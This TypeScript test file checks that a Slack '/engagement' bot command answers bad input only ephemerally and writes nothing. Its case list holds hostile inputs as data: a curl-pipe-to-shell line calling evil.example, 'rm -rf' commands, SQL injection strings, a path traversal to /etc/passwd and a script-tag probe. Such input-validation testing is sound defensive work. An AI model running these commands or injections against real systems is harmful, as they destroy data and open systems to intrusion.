/**
 * Bad input (issue 7 item 3): every /engagement text below gets an ephemeral reply within Slack's 3 s ack window,
 * and nothing else changes: no message posted anywhere, no store write, no alert setting flipped, and nothing a
 * user typed comes back as a live mention or link.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { generateWorld } from "../../src/sandbox/generator.js";
import { startSandbox } from "../../src/sandbox/server.js";
import type { Sandbox } from "../../src/sandbox/types.js";
import { startTestBot, type TestBot } from "../support/bot-harness.js";

interface Case {
  text: string;
  /** what the reply must say (its fallback text or blocks) */
  expect: RegExp;
}

const HELP = /\/engagement status/;
const UNKNOWN = /Unknown subcommand/;
const USAGE = /Usage|must|takes no arguments|Say `on` or `off`|YYYY-MM/;
const CARD = /\d+ \/ 1[,.]?000|contributors|Contributors|epic|Epic|issues|Issues|digest|Digest/;

const CASES: Case[] = [
  { text: "", expect: HELP },
  { text: "   ", expect: HELP },
  { text: "\t\n  \t", expect: HELP },
  { text: "STATUS", expect: CARD },
  { text: "Status", expect: CARD },
  { text: "sTaTuS", expect: CARD },
  { text: "  status  ", expect: CARD },
  { text: "HELP", expect: HELP },
  { text: "Epics", expect: CARD },
  { text: "DIGEST", expect: CARD },
  { text: "ｓｔａｔｕｓ", expect: CARD },
  { text: "statuś", expect: /Unknown subcommand `statuś` — did you mean `status`\?/ },
  { text: "stauts", expect: /Unknown subcommand `stauts` — did you mean `status`\?/ },
  { text: "contrib 2026-10", expect: /did you mean `contributors`\?/ },
  { text: "frobnicate", expect: /Unknown subcommand `frobnicate`\. Try/ },
  { text: "статус", expect: UNKNOWN },
  { text: "状态", expect: UNKNOWN },
  { text: "📈📉", expect: UNKNOWN },
  { text: "\u200bstatus", expect: UNKNOWN },
  { text: "x".repeat(3000), expect: UNKNOWN },
  { text: `status ${"y".repeat(2993)}`, expect: USAGE },
  { text: `contributors ${"9".repeat(2987)}`, expect: USAGE },
  { text: "<!channel>", expect: UNKNOWN },
  { text: "<!here> status", expect: UNKNOWN },
  { text: "status <!everyone>", expect: USAGE },
  { text: "<@U0ADMIN01> help", expect: UNKNOWN },
  { text: "<https://evil.example|click me>", expect: UNKNOWN },
  { text: "status; rm -rf /", expect: USAGE },
  { text: "$(rm -rf /)", expect: UNKNOWN },
  { text: "`rm -rf ~`", expect: UNKNOWN },
  { text: "status && curl evil.example | sh", expect: USAGE },
  { text: "'; DROP TABLE merge_requests; --", expect: UNKNOWN },
  { text: "contributors 2026-01' OR '1'='1", expect: USAGE },
  { text: "issues 1 OR 1=1", expect: USAGE },
  { text: "contributors 2026-13", expect: USAGE },
  { text: "contributors 2026-00", expect: USAGE },
  { text: "contributors 0000-00", expect: USAGE },
  { text: "contributors 9999-12", expect: USAGE },
  { text: "contributors 2026-1", expect: USAGE },
  { text: "contributors -2026-01", expect: USAGE },
  { text: "contributors 2026/01", expect: USAGE },
  { text: "issues 0", expect: USAGE },
  { text: "issues -1", expect: USAGE },
  { text: "issues 366", expect: USAGE },
  { text: "issues 99999999999999999999", expect: USAGE },
  { text: "issues 1e3", expect: USAGE },
  { text: "issues NaN", expect: USAGE },
  { text: "alerts maybe", expect: USAGE },
  { text: "alerts on off", expect: USAGE },
  { text: "help me please", expect: USAGE },
  { text: "../../etc/passwd", expect: UNKNOWN },
  { text: "\u0000status", expect: UNKNOWN },
  { text: "<script>alert(1)</script>", expect: UNKNOWN },
  { text: "*bold* _it_ ~strike~ `code`", expect: UNKNOWN },
  { text: "&amp; &lt;b&gt;", expect: UNKNOWN },
  { text: "contributors\u00a02026-01", expect: CARD },
  { text: "ALERTS", expect: /alert|Alert/ },
];

/** Live Slack syntax a reply must never contain when the user typed it: mentions, broadcasts, links. */
const LIVE_MARKUP = /<!channel>|<!here>|<!everyone>|<@U0ADMIN01>|<https:\/\/evil\.example/;

describe("/engagement with bad input", () => {
  let sandbox: Sandbox;
  let bot: TestBot;
  before(async () => {
    sandbox = await startSandbox({ world: generateWorld({ seed: 4, now: new Date(), months: 2 }) });
    bot = await startTestBot({
      gitlabUrl: sandbox.url,
      env: { HISTORY_MONTHS: "2" },
      seed: async (runtime) => {
        const summary = await runtime.runSync();
        assert.ok(summary.ok, JSON.stringify(summary.sources));
      },
    });
  });
  after(async () => {
    await bot.stop();
    await sandbox.close();
  });

  it(`has at least 40 cases (${CASES.length})`, () => {
    assert.ok(CASES.length >= 40);
  });

  it("answers every case ephemerally in the ack itself, and nothing else changes", async () => {
    const storeMarker = await bot.runtime.store.changeMarker();
    const muted = await bot.services.alerts.isMuted("C0ENGAGE01");
    const slackCalls = bot.slack.calls.length;
    const commandLines = () => bot.log.entries().filter((e) => e.msg === "/engagement").length;
    const linesBefore = commandLines();

    for (const { text, expect } of CASES) {
      const label = JSON.stringify(text.length > 60 ? `${text.slice(0, 60)}…(${text.length})` : text);
      const reply = await bot.command(text);
      assert.equal(reply.status, 200, label);
      const body = reply.body as { response_type?: string; text?: string; blocks?: unknown[] };
      assert.equal(body.response_type, "ephemeral", label);
      assert.ok((body.text ?? "").length > 0, `${label}: a text fallback`);
      assert.match(`${body.text}\n${JSON.stringify(body.blocks)}`, expect, label);
      assert.doesNotMatch(reply.text, LIVE_MARKUP, `${label}: user input echoed as live markup`);
      assert.ok(reply.text.length < 40_000, `${label}: reply of ${reply.text.length} chars`);
    }

    assert.equal(commandLines() - linesBefore, CASES.length, "every case reached the listener");
    assert.equal(await bot.runtime.store.changeMarker(), storeMarker, "the store was not written");
    assert.equal(await bot.services.alerts.isMuted("C0ENGAGE01"), muted, "alert settings unchanged");
    assert.equal(bot.slack.calls.length, slackCalls, "no Slack Web API call (no post, no DM)");
    assert.equal(bot.sink.posts.length, 0, "no follow-up through response_url");
  });
});
